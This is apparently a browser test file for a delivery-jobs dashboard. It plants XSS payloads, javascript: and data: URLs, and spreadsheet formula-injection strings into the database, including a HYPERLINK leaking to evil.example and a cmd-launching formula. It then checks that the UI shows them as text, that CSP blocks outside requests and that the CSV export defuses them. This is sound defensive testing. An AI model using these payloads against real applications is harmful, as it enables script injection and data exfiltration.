/**
 * Hostile data in Chromium: script and markup payloads, dangerous URLs and spreadsheet
 * formulas planted straight into the reference server's database (every text the service
 * returns for one job), then the jobs table, the job drawer (every tab) and the CSV export
 * of the page.
 *
 * Decision on images from other hosts: the dashboard renders only http(s) URLs as images
 * (proof of delivery and signatures legitimately live on a storage host), lazily and
 * without a referrer; the page's CSP allows images only from the hosts config.json names, and
 * evil.example is not one. So no request may leave the app's origin at all: not the planted
 * images (a route would answer them with a 1x1 PNG, so one that got through would show), not
 * javascript:, data:, the rider's picture or links in addresses.
 */
import { readFileSync } from 'node:fs';
import Papa from 'papaparse';
import type { Page, Request } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { signIn, startApp, type App } from './support';

const IMG = '<img src=x onerror="window.__xss=1">';
const SCRIPT = '"><script>window.__xss=1</script>';
const JS_URL = 'javascript:window.__xss=1';
const DATA_HTML = 'data:text/html,<script>window.__xss=1</script>';
const DATA_SVG = 'data:image/svg+xml,<svg xmlns="http://www.w3.org/2000/svg" onload="window.__xss=1"/>';
const HTTP_IMAGE = 'http://evil.example/x.png';
const HTTPS_IMAGE = 'https://evil.example/y.png';

/** Text cells of the CSV that begin like a formula, with quotes, commas and line breaks (RFC 4180). */
const FORMULA_NOTES = `=HYPERLINK("http://evil.example/?leak","click")\n${IMG}`;
const FORMULA_NAME = `@SUM(1+1)${SCRIPT}`;
const FORMULA_TYPE = "+cmd|' /C calc'!A0";
const FORMULA_ORDER = '-1+1,"quoted"';

/** A 1x1 transparent PNG. */
const PNG = Buffer.from(
  'iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAQAAAC1HAwCAAAAC0lEQVR42mNkYAAAAAYAAjCB0C8AAAAASUVORK5CYII=',
  'base64',
);

let app: App;
let jobId: number;
let branchId: string;

beforeAll(async () => {
  app = await startApp({ jobs: 40 });
  const db = app.server.db;
  // The newest job (first row of page 1) that has a rider, a pickup and a delivery.
  jobId = db
    .prepare(
      `SELECT id FROM jobs j WHERE rider_id IS NOT NULL
         AND EXISTS (SELECT 1 FROM pickups WHERE job_id = j.id)
         AND EXISTS (SELECT 1 FROM deliveries WHERE job_id = j.id)
       ORDER BY created_at DESC, id DESC LIMIT 1`,
    )
    .pluck()
    .get() as number;
  const newest = db.prepare('SELECT id FROM jobs ORDER BY created_at DESC, id DESC LIMIT 1').pluck().get();
  // Make it the newest, so it is on page 1.
  if (newest !== jobId) {
    db.prepare('UPDATE jobs SET created_at = (SELECT max(created_at) + 1 FROM jobs) WHERE id = ?').run(jobId);
  }
  branchId = db
    .prepare('SELECT branch_id FROM pickups WHERE job_id = ? ORDER BY position LIMIT 1')
    .pluck()
    .get(jobId) as string;

  const address = JSON.stringify({ line1: IMG, city: SCRIPT, map_url: JS_URL, picture: DATA_HTML });
  const customer = JSON.stringify({ name: SCRIPT, phone: '=1+1', photo: JS_URL, note: IMG });
  db.prepare('UPDATE jobs SET notes = ?, order_id = ?, type = ? WHERE id = ?').run(
    FORMULA_NOTES,
    FORMULA_ORDER,
    FORMULA_TYPE,
    jobId,
  );
  db.prepare(
    `UPDATE riders SET name = ?, username = ?, email = ?, profile_pic = ?, reference_id = ?, metadata = ?, dial_code = '', mobile = '=2+3'
     WHERE id = (SELECT rider_id FROM jobs WHERE id = ?)`,
  ).run(FORMULA_NAME, IMG, JS_URL, JS_URL, SCRIPT, JSON.stringify({ note: IMG, avatar: DATA_HTML }), jobId);
  db.prepare('UPDATE job_status_history SET remarks = ?, actor_name = ?, actor_id = ? WHERE job_id = ?').run(
    IMG,
    SCRIPT,
    JS_URL,
    jobId,
  );
  db.prepare('UPDATE branches SET name = ?, formatted_address = ? WHERE id = ?').run(IMG, SCRIPT, branchId);
  db.prepare('UPDATE pickups SET address = ?, customer = ? WHERE job_id = ?').run(address, customer, jobId);
  db.prepare(
    `UPDATE deliveries SET address = ?, customer = ?, tracking_id = ?, otp = ?, note = ?, signature_image = ?,
       proof_of_delivery_images = ? WHERE job_id = ?`,
  ).run(
    address,
    customer,
    SCRIPT,
    IMG,
    IMG,
    JS_URL,
    JSON.stringify([DATA_HTML, HTTP_IMAGE, HTTPS_IMAGE, JS_URL, { url: DATA_SVG }, `  ${JS_URL}`]),
    jobId,
  );
  db.prepare(
    `UPDATE packages SET barcode = ?, package_id = ?
     WHERE pickup_id IN (SELECT id FROM pickups WHERE job_id = ?) OR delivery_id IN (SELECT id FROM deliveries WHERE job_id = ?)`,
  ).run(SCRIPT, IMG, jobId, jobId);
  // The branch's zones carry names too (shown in the editor's zone list).
  db.prepare(
    `UPDATE branch_zones SET properties = json_set(properties, '$.name', ?) WHERE branch_id = ?`,
  ).run(IMG, branchId);
  db.prepare(`UPDATE branch_contacts SET name = ?, phone = ? WHERE branch_id = ?`).run(
    SCRIPT,
    '=1+1',
    branchId,
  );
  const stopHistory = db.prepare(
    `INSERT INTO stop_status_history (pickup_id, delivery_id, status, remarks, actor_type, actor_id, actor_name, created_at)
     VALUES (?, ?, 1, ?, 'admin', 'x', ?, 1767225600)`,
  );
  for (const id of db.prepare('SELECT id FROM pickups WHERE job_id = ?').pluck().all(jobId))
    stopHistory.run(id, null, IMG, SCRIPT);
  for (const id of db.prepare('SELECT id FROM deliveries WHERE job_id = ?').pluck().all(jobId))
    stopHistory.run(null, id, SCRIPT, IMG);
});
afterAll(async () => {
  await app?.close();
});

/** What the page did that data must never make it do. */
async function injected(page: Page) {
  return page.evaluate(() => ({
    xss: (window as unknown as { __xss?: unknown }).__xss,
    inlineScripts: document.querySelectorAll('script:not([src])').length,
    foreignScripts: [...document.querySelectorAll('script[src]')]
      .map((s) => (s as HTMLScriptElement).src)
      .filter((src) => new URL(src).origin !== location.origin),
    handlers: [...document.querySelectorAll('*')].filter((el) =>
      [...el.attributes].some((a) => a.name.toLowerCase().startsWith('on')),
    ).length,
    imageSources: [...document.images].map((img) => img.getAttribute('src') ?? ''),
    badLinks: [...document.querySelectorAll('a[href], area[href], iframe, object, embed, form[action]')]
      .map(
        (el) =>
          el.getAttribute('href') ??
          el.getAttribute('src') ??
          el.getAttribute('data') ??
          el.getAttribute('action') ??
          '',
      )
      .filter((href) => /^\s*(javascript|data|vbscript):/i.test(href)),
  }));
}

async function expectNothingInjected(page: Page) {
  const found = await injected(page);
  expect(found.xss).toBeUndefined();
  expect(found.inlineScripts).toBe(0);
  expect(found.foreignScripts).toEqual([]);
  expect(found.handlers).toBe(0);
  expect(found.badLinks).toEqual([]);
  for (const src of found.imageSources) expect(src).toMatch(/^(https?:\/\/|\/)/);
}

describe('hostile data in Chromium', () => {
  it('shows planted markup and URLs as text in the table and every tab of the drawer, runs nothing, loads nothing from elsewhere', async () => {
    const { page } = app;
    const origin = new URL(app.url).origin;
    const requests: Request[] = [];
    page.on('request', (r) => requests.push(r));
    const dialogs: string[] = [];
    page.on('dialog', (d) => {
      dialogs.push(d.message());
      void d.dismiss();
    });
    // The planted http(s) images, answered here should the CSP let one through (it must not).
    await page.route(
      (url) => url.hostname === 'evil.example',
      (route) => route.fulfill({ status: 200, contentType: 'image/png', body: PNG }),
    );

    await signIn(page, app.token, '/jobs');
    const row = page.locator(`tbody tr[data-job-id="${jobId}"]`);
    await row.waitFor();
    // The table: rider, branch, order and type as text.
    const rowText = await row.innerText();
    expect(rowText).toContain(FORMULA_NAME);
    expect(rowText).toContain(IMG);
    expect(rowText).toContain(FORMULA_ORDER);
    expect(rowText).toContain(FORMULA_TYPE);
    await expectNothingInjected(page);

    await row.click();
    const drawer = page.getByRole('complementary', { name: `Job ${jobId}` });
    const tab = (name: string | RegExp) => drawer.getByRole('tab', { name });
    const tabpanel = drawer.getByRole('tabpanel');
    const showsText = async (text: string) => {
      await tabpanel.getByText(text, { exact: false }).first().waitFor();
    };

    // Overview: notes, order, type, the rider's card (name, username, email, metadata).
    await tab('Overview').click();
    await showsText(IMG); // in the notes, the username, the metadata
    await showsText(FORMULA_ORDER);
    await showsText(FORMULA_TYPE);
    await drawer.getByRole('heading', { name: `Rider: ${FORMULA_NAME}` }).waitFor();
    await showsText(JS_URL); // the email, as text; its link is a mailto: one
    expect(await tabpanel.getByRole('link', { name: JS_URL }).getAttribute('href')).toBe(`mailto:${JS_URL}`);
    await showsText(DATA_HTML); // the metadata's avatar: text, not an image
    expect(await drawer.innerText()).toContain(FORMULA_NAME); // the drawer's description line
    await expectNothingInjected(page);

    // History: remarks and actors.
    await tab(/^History/).click();
    await showsText(IMG);
    await showsText(SCRIPT);
    await showsText(JS_URL);
    await expectNothingInjected(page);

    // Pickups and deliveries: branch, address, customer, tracking id, note, packages, stop
    // history, signature and proof-of-delivery images.
    await tab(/^Stops/).click();
    await showsText(IMG);
    await showsText(SCRIPT);
    await showsText(DATA_HTML);
    await showsText('Image 1 not shown (not an http(s) link)');
    const images = tabpanel.getByRole('list', { name: 'Proof of delivery image' }).first();
    // Lazy images load near the viewport: bring them there.
    await images.getByRole('img', { name: 'Proof of delivery image 3' }).scrollIntoViewIfNeeded();
    // Neither loads: the CSP's img-src names only the service's, the map's and config.json's
    // image hosts (evil.example is none of them); each stays a link to open it.
    await page.waitForFunction(() =>
      [...document.images].some(
        (img) => img.src === 'https://evil.example/y.png' && img.complete && img.naturalWidth === 0,
      ),
    );
    expect(
      await images.getByRole('link').evaluateAll((links) => links.map((a) => a.getAttribute('href'))),
    ).toEqual(expect.arrayContaining([HTTP_IMAGE, HTTPS_IMAGE]));
    const shownImages = await tabpanel
      .getByRole('img')
      .evaluateAll((imgs) => imgs.map((i) => i.getAttribute('src')));
    expect([...new Set(shownImages)].sort()).toEqual([HTTP_IMAGE, HTTPS_IMAGE]);
    expect(await tabpanel.getByText('not shown (not an http(s) link)').count()).toBeGreaterThanOrEqual(4);
    await expectNothingInjected(page);

    // Raw JSON: every value, OTP included, as text.
    await tab('Raw JSON').click();
    const raw = await drawer.getByLabel('Job JSON').innerText();
    const job = JSON.parse(raw) as {
      deliveries: { otp: string; proof_of_delivery_images: unknown[] }[];
      notes: string;
    };
    expect(job.notes).toBe(FORMULA_NOTES);
    expect(job.deliveries[0]!.otp).toBe(IMG);
    await expectNothingInjected(page);
    expect(dialogs).toEqual([]);

    // Nothing left the origin: the planted images were asked for, as images, and the page's
    // CSP stopped each before it went out.
    const foreign = requests.filter((r) => {
      const url = new URL(r.url());
      return (url.protocol === 'http:' || url.protocol === 'https:') && url.origin !== origin;
    });
    expect(foreign.length).toBeGreaterThan(0);
    for (const r of foreign) {
      expect([HTTP_IMAGE, HTTPS_IMAGE]).toContain(r.url());
      expect(r.resourceType()).toBe('image');
      expect(r.failure()?.errorText).toBe('csp');
      expect(await r.response()).toBeNull();
    }
    // No request for the rider's picture, a data: or javascript: URL, ever.
    expect(
      requests.map((r) => r.url()).filter((u) => /^(javascript|data):/i.test(u) || u.includes('__xss')),
    ).toEqual([]);

    await page.keyboard.press('Escape');
    await drawer.waitFor({ state: 'detached' });
  });

  it('shows the planted branch name, address, contacts and zone names as text in the branch list and editor (map included)', async () => {
    const { page } = app;
    const origin = new URL(app.url).origin;
    const foreign: string[] = [];
    const onRequest = (r: Request) => {
      const url = new URL(r.url());
      if ((url.protocol === 'http:' || url.protocol === 'https:') && url.origin !== origin)
        foreign.push(r.url());
    };
    // The build's map is the offline one (support.ts's appBuild): its data is part of the app.
    page.on('request', onRequest);
    try {
      await page.goto(`${app.url}/branches`);
      const list = page.getByRole('table', { name: 'Branches' });
      await list.waitFor();
      const row = list.getByRole('row').filter({ hasText: branchId });
      expect(await row.innerText()).toContain(IMG);
      expect(await row.innerText()).toContain(SCRIPT);
      await expectNothingInjected(page);

      await page.goto(`${app.url}/branches/${branchId}`);
      await page.getByRole('form', { name: `Edit branch ${branchId}` }).waitFor();
      await page.getByText('Offline base map: streets not shown').waitFor();
      await page.getByRole('button', { name: 'Draw zone' }).and(page.locator(':enabled')).waitFor();
      // Names and addresses are field values (text by nature); the zone list shows zone names.
      expect(await page.getByRole('textbox', { name: 'Name', exact: true }).first().inputValue()).toBe(IMG);
      const values = await page
        .locator('input, textarea')
        .evaluateAll((els) => els.map((e) => (e as HTMLInputElement).value));
      expect(values).toContain(SCRIPT);
      expect(await page.getByText(IMG, { exact: false }).count()).toBeGreaterThan(0);
      await expectNothingInjected(page);
      expect(foreign).toEqual([]);
    } finally {
      page.off('request', onRequest);
    }
  });

  it('exports the hostile cells quoted (RFC 4180) and defused against formula injection', async () => {
    const { page } = app;
    await page.goto(`${app.url}/jobs`);
    await page.locator(`tbody tr[data-job-id="${jobId}"]`).waitFor();
    await page.getByRole('button', { name: 'Export CSV' }).click();
    const [download] = await Promise.all([
      page.waitForEvent('download'),
      page
        .getByRole('dialog', { name: 'Export CSV' })
        .getByRole('button', { name: /^This page/ })
        .click(),
    ]);
    const text = readFileSync(await download.path(), 'utf8').replace(/^\ufeff/, '');
    await expectNothingInjected(page);

    // RFC 4180: CRLF between records; a field with a quote, comma or line break is quoted,
    // its quotes doubled.
    const header = text.slice(0, text.indexOf('\r\n'));
    expect(header.split(',')[0]).toBe('job_id');
    expect(text).toContain(
      `"'=HYPERLINK(""http://evil.example/?leak"",""click"")\n<img src=x onerror=""window.__xss=1"">"`,
    );
    expect(text).toContain(`"'-1+1,""quoted"""`);
    expect(text).toContain(`"'@SUM(1+1)""><script>window.__xss=1</script>"`);
    expect(text).toContain(`,'+cmd|' /C calc'!A0,`); // nothing to quote: left bare

    const csv = Papa.parse<Record<string, string>>(text, { header: true, skipEmptyLines: true });
    expect(csv.errors).toEqual([]);
    const row = csv.data.find((r) => r.job_id === String(jobId));
    expect(row).toBeDefined();
    // Every text cell that a spreadsheet would read as a formula starts with an apostrophe.
    expect(row!.notes).toBe(`'${FORMULA_NOTES}`);
    expect(row!.order_id).toBe(`'${FORMULA_ORDER}`);
    expect(row!.type).toBe(`'${FORMULA_TYPE}`);
    expect(row!.rider_name).toBe(`'${FORMULA_NAME}`);
    expect(row!.rider_phone).toBe(`'=2+3`);
    expect(row!.rider_email).toBe(JS_URL);
    expect(row!.branch_names).toBe(IMG);
    for (const r of csv.data) {
      for (const [field, value] of Object.entries(r)) {
        if (/^[=+\-@\t\r]/.test(value))
          expect.fail(`job ${r.job_id}, ${field}: ${JSON.stringify(value)} is not defused`);
      }
    }
  });
});
